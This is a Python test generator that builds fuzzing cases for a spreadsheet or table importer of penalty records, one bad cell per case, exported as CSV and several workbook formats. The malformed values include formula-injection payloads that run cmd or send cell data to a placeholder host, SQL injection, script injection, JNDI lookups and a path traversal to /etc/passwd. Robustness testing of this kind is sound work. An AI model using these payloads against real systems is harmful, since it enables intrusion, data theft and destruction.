"""One bad cell in an honest table, in every form a table comes in."""

from __future__ import annotations

from collections.abc import Iterator

from hostile.case import Case, fixed
from hostile.forms import to_csv, to_jsonl, to_ods, to_ods_rows, to_xls, to_xlsx
from hostile.tables import CODE, DECIDED, FINE, NAME, REMARK, penalties

DATES = {
    "year-9999": "9999-12-31",
    "year-0000": "0000-00-00",
    "year-0": "0-1-1",
    "leap-1900": "1900-02-29",
    "leap-2023": "2023-02-29",
    "month-13": "2026-13-01",
    "day-0": "2026-09-00",
    "day-32": "2026-09-32",
    "negative": "-2026-09-01",
    "serial-0": "0",
    "serial-60": "60",
    "serial-huge": "99999999",
    "serial-fraction": "46266.75",
    "bc": "公元前1年1月1日",
    "lunar": "丙午年八月初一",
    "arabic-digits": "٢٠٢٦-٠٩-٠١",
    "circled-digits": "②⓪②⑥-⑨-①",
    "time-25": "2026-09-01 25:61:61",
    "zone": "2026-09-01T00:00:00Z",
    "future": "2026-12-31",
    "two": "2026-09-01、2026-09-02",
    "long": "2" * 5_000,
    "injection": "2026-09-01'; DROP TABLE records; --",
}
AMOUNTS = {
    "negative": "-1",
    "minus-zero": "-0",
    "ten-to-30": "1" + "0" * 30,
    "exponent": "1e30",
    "exponent-400": "1e400",
    "nan": "NaN",
    "infinity": "Infinity",
    "minus-infinity": "-inf",
    "hex": "0x1F",
    "many-decimals": "0." + "1" * 40,
    "two-points": "1.2.3",
    "comma-decimal": "1,5",
    "chinese": "伍仟元整",
    "currency": "￥5000",
    "underscores": "1_000",
    "arabic-digits": "٥",
    "superscript": "5²",
    "fraction": "½",
    "plus": "+5",
    "thousand-digits": "9" * 1_000,
    "blank-inside": "1 000",
}
TEXTS = {
    "formula-cmd": "=cmd|'/c calc'!A1",
    "formula-hyperlink": '=HYPERLINK("http://example.invalid/?"&A1,"点")',
    "formula-webservice": '=WEBSERVICE("http://example.invalid/")',
    "formula-dde": '=DDE("soffice";"x";"y")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|'/c calc'!A1",
    "formula-minus": "-2+3+cmd|'/c calc'!A1",
    "formula-full-width": "＝cmd|'/c calc'!A1",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "sql": "x'); DROP TABLE records; --",
    "template": "{{ 7*7 }}{% import os %}${7*7}",
    "path": "../../../../etc/passwd",
    "jndi": "${jndi:ldap://example.invalid/a}",
    "format": "%s%n%x{0}{x!r}",
    "right-to-left": "甲\u202e乙\u202c丙",
    "left-to-right-mark": "甲\u200e乙",
    "isolate": "\u2066甲\u2069",
    "zero-width-space": "甲\u200b乙",
    "zero-width-joiner": "甲\u200d乙",
    "soft-hyphen": "甲\u00ad乙",
    "bom": "甲\ufeff乙",
    "replacement": "甲\ufffd乙",
    "noncharacter": "甲\uffff乙",
    "private-use": "甲\ue001乙",
    "tag-characters": "甲\U000e0041乙",
    "variation": "葛\U000e0100城",
    "zalgo": "甲" + "\u0301" * 500,
    "rare-character": "\U00020bb7野家",
    "emoji": "罚款👩‍👩‍👧‍👦",
    "escape-codes": "甲\x1b[31m乙\x07",
    "backspace": "甲\x08乙",
    "nul": "甲\x00乙",
    "bell": "甲\x07乙",
    "delete": "甲\x7f乙",
    "log-forging": "甲\r\n2026-09-01 INFO batch stored",
    "width-513": "字" * 513,
    "error-text": "#N/A",
    "libreoffice-error": "Err:502",
}
CODES = {
    "all-zero": "0" * 18,
    "dummy": "00000000000000000X",
    "letters-o-i": "9199010100000001OI",
    "with-blank": "91990101 0000000123",
    "seventeen": "9" * 17,
    "exponent": "9.1990101E+17",
    "quote-first": "'91990101000000123X",
    "lower-case-check": "91990101000000012x",
    "cyrillic": "91990101000000012Х",
    "person-number": "990101198001011234",
    "full-width-wrong": "９" * 18,
    "kilobytes": "9" * 4_000,
}
NAMES = {
    "one-letter": "A",
    "person": "张三",
    "only-digits": "1234567890",
    "only-punctuation": "……",
    "a-line-break": "测试市\n食品公司",
    "homoglyph": "测试市Аcme公司",
    "trailing-blanks": "测试公司\u3000\u3000",
}
_GROUPS = (
    (DECIDED, "date", DATES),
    (FINE, "amount", AMOUNTS),
    (CODE, "code", CODES),
    (NAME, "name", NAMES),
    (REMARK, "text", TEXTS),
)
_WORKBOOKS = {
    "formula-cmd",
    "formula-dde",
    "right-to-left",
    "zero-width-space",
    "bom",
    "noncharacter",
    "emoji",
    "error-text",
}
_WORKBOOKS |= {"libreoffice-error", "html", "year-9999", "leap-1900", "ten-to-30", "nan", "negative", "width-513"}


def cases() -> Iterator[Case]:
    for header, group, values in _GROUPS:
        for label, value in values.items():
            grid = penalties(3, **{header: value})
            yield fixed(f"cell/{group}-{label}/csv", to_csv(grid))
            if label in _WORKBOOKS:
                yield fixed(f"cell/{group}-{label}/xlsx", to_xlsx(grid), "报送.xlsx")
                yield fixed(f"cell/{group}-{label}/xls", to_xls(grid), "报送.xls")
                yield fixed(f"cell/{group}-{label}/ods", to_ods({"数据": to_ods_rows(grid)}), "报送.ods")
                yield fixed(f"cell/{group}-{label}/jsonl", to_jsonl(grid), "报送.jsonl")
